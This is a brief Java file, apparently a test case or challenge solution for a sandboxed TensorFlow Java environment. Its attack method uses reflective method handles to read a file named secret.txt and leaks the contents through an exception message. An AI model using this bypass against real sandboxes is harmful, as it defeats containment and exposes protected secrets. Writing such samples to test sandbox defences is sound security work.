import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        MethodHandle read = MethodHandles.publicLookup()
                .findStatic(Files.class, "readString", MethodType.methodType(String.class, Path.class));
        throw new IllegalStateException((String) read.invokeExact(Path.of("ATTACK_FOLDER/secret.txt")));
    }
}
